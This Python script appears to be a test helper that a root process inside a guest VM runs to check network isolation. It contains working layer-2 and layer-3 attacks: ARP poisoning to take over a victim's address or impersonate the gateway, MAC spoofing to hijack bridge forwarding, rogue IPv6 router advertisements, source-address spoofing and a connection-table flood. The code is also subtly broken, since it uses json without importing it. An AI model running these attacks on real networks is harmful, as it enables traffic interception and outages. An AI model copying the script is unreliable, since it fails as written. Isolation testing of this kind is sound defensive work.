"""What a root of a guest sends, whoever it says it is. `what` chooses; everything ends by itself."""
import os
import socket
import struct
import subprocess
import sys
import threading
import time

FACTS = json.loads(sys.argv[1])
MARK = b"HOSTILE-MARK"
ALL = b"\xff" * 6


def mac(text):
    return bytes(int(part, 16) for part in text.split(":"))


def own_mac():
    return mac(open("/sys/class/net/eth0/address").read().strip())


def raw():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind(("eth0", 0))
    return sock


def checksum(data):
    total = sum(struct.unpack(">%dH" % ((len(data) + 1) // 2), data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ip_packet(source, target, payload, protocol=17):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def udp(source, target, port, payload, sport=6666):
    return ip_packet(source, target, struct.pack(">HHHH", sport, port, 8 + len(payload), 0) + payload)


def arp(kind, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, kind, sender_mac, socket.inet_aton(sender_ip), target_mac, socket.inet_aton(target_ip))


def frame(target, source, kind, payload):
    return target + source + struct.pack(">H", kind) + payload


def for_a_while(frames, seconds):
    sock, sent, end = raw(), 0, time.time() + seconds
    while time.time() < end and sent < 20000:
        for one in frames:
            try:
                sock.send(one)
                sent += 1
            except OSError:
                pass
        time.sleep(0.01)
    return sent


def take_address():
    """Says that the victim's address is its own, to the gateway and to all."""
    victim, me, gateway = FACTS["victim"], own_mac(), FACTS["gateway"]
    subprocess.run(["ip", "address", "add", victim + "/32", "dev", "eth0"], check=False)
    try:
        return for_a_while([
            frame(ALL, me, 0x0806, arp(2, me, victim, ALL, victim)),
            frame(ALL, me, 0x0806, arp(1, me, victim, b"\0" * 6, gateway)),
            frame(mac(FACTS["gateway_mac"]), me, 0x0806, arp(2, me, victim, mac(FACTS["gateway_mac"]), gateway)),
            frame(mac(FACTS["gateway_mac"]), mac(FACTS["victim_mac"]), 0x0806, arp(2, me, victim, mac(FACTS["gateway_mac"]), gateway)),
        ], FACTS["seconds"])
    finally:
        subprocess.run(["ip", "address", "del", victim + "/32", "dev", "eth0"], check=False)


def take_mac():
    """Says that the victim's MAC is at its own port, so that the bridge sends the victim's frames there."""
    them = mac(FACTS["victim_mac"])
    return for_a_while([frame(ALL, them, 0x88b5, MARK), frame(mac(FACTS["gateway_mac"]), them, 0x0800, udp(FACTS["victim"], FACTS["gateway"], 9, MARK)),
                        frame(mac(FACTS["gateway_mac"]), them, 0x0806, arp(1, them, FACTS["victim"], b"\0" * 6, FACTS["gateway"]))], FACTS["seconds"])


def take_gateway():
    """Says that it is the gateway, to the victim and to all."""
    me, gateway, them = own_mac(), FACTS["gateway"], mac(FACTS["victim_mac"])
    return for_a_while([frame(ALL, me, 0x0806, arp(2, me, gateway, ALL, gateway)), frame(them, me, 0x0806, arp(2, me, gateway, them, FACTS["victim"]))], FACTS["seconds"])


def icmp6(source, target, body):
    pseudo = source + target + struct.pack(">II", len(body), 58)
    body = body[:2] + struct.pack(">H", checksum(pseudo + body)) + body[4:]
    return struct.pack(">IHBB", 6 << 28, len(body), 58, 255) + source + target + body


def router():
    """A router advertisement with a prefix and a name server, and a neighbour advertisement for the victim's IPv6 address."""
    me = own_mac()
    local = bytes.fromhex("fe80000000000000") + bytes([me[0] ^ 2]) + me[1:3] + b"\xff\xfe" + me[3:]
    every = bytes.fromhex("ff020000000000000000000000000001")
    prefix = struct.pack(">BBBBIII", 3, 4, 64, 0xc0, 86400, 86400, 0) + bytes.fromhex("20010db8006600000000000000000000")
    advert = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + struct.pack(">BB6s", 1, 1, me)
    return for_a_while([frame(b"\x33\x33\0\0\0\1", me, 0x86dd, icmp6(local, every, advert))], FACTS["seconds"])


def frames():
    """Everything that a bridge may carry, to the victim and to all, each with a mark."""
    me, them, victim, own = own_mac(), mac(FACTS["victim_mac"]), FACTS["victim"], FACTS["own"]
    dhcp = struct.pack(">BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, 7, 0, 0, b"", socket.inet_aton(victim), socket.inet_aton(own), b"", them, MARK, b"")
    return for_a_while([
        frame(to, source, kind, payload)
        for to in (them, ALL, b"\1\0\x5e\0\0\1", b"\1\x80\xc2\0\0\0", b"\1\x80\xc2\0\0\x0e")
        for source in (me, mac(FACTS["gateway_mac"]))
        for kind, payload in (
            (0x0800, udp(own, victim, 7777, MARK)), (0x0800, udp(FACTS["gateway"], victim, 7777, MARK)), (0x0800, udp(own, "255.255.255.255", 68, dhcp, 67)),
            (0x86dd, b"\x60\0\0\0" + b"\0" * 36 + MARK), (0x88b5, MARK), (0x8100, b"\0\1\x08\0" + udp(own, victim, 7777, MARK)), (0x88a8, b"\0\1\x08\0" + udp(own, victim, 7777, MARK)),
            (len(MARK) + 3, b"\x42\x42\x03" + MARK), (0x0806, arp(2, me, FACTS["gateway"], them, victim) + MARK))
    ], FACTS["seconds"])


def hear():
    """What of the attacker's marks arrives here."""
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind(("eth0", 0))
    sock.settimeout(0.1)
    open("/run/hostile-hears", "w").close()
    heard, end = [], time.time() + FACTS["seconds"]
    while time.time() < end and len(heard) < 10:
        try:
            data = sock.recv(4096)
        except OSError:
            continue
        if MARK in data:
            heard.append("%s from %s" % (data[12:14].hex(), data[6:12].hex(":")))
    os.unlink("/run/hostile-hears")
    return sorted(set(heard))


def spoof():
    """Packets of the victim, of the gateway and of strangers, to a listener outside."""
    me, gateway = own_mac(), mac(FACTS["gateway_mac"])
    return for_a_while([frame(gateway, me, 0x0800, udp(source, FACTS["outside"], FACTS["port"], MARK + source.encode()))
                        for source in (FACTS["victim"], FACTS["gateway"], "192.0.2.9", "127.0.0.1", FACTS["outside"])], FACTS["seconds"])


def connects():
    """The targets that take a connection."""
    open_ones, lock = [], threading.Lock()

    def one(target):
        host, port, *how = target
        sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(1.5)
        try:
            sock.connect((host, port))
            with lock:
                open_ones.append("%s:%s" % (host, port))
        except OSError:
            pass
        finally:
            sock.close()
    for route in FACTS.get("routes", []):
        subprocess.run(["ip", "route", "replace", route, "via", FACTS["gateway"]], check=False)
    threads = [threading.Thread(target=one, args=(target,)) for target in FACTS["targets"]]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for route in FACTS.get("routes", []):
        subprocess.run(["ip", "route", "del", route], check=False)
    return sorted(open_ones)


def flood():
    """Fills the node's table of connections."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = 0
    for port in range(1024, 1024 + FACTS["ports"]):
        for last in range(FACTS["addresses"]):
            try:
                sock.sendto(b"x", ("198.51.100.%d" % (1 + last), port))
                sent += 1
            except OSError:
                pass
    return sent


print(json.dumps({"take_address": take_address, "take_mac": take_mac, "take_gateway": take_gateway, "router": router, "frames": frames,
                  "hear": hear, "spoof": spoof, "connects": connects, "flood": flood}[FACTS["what"]]()))
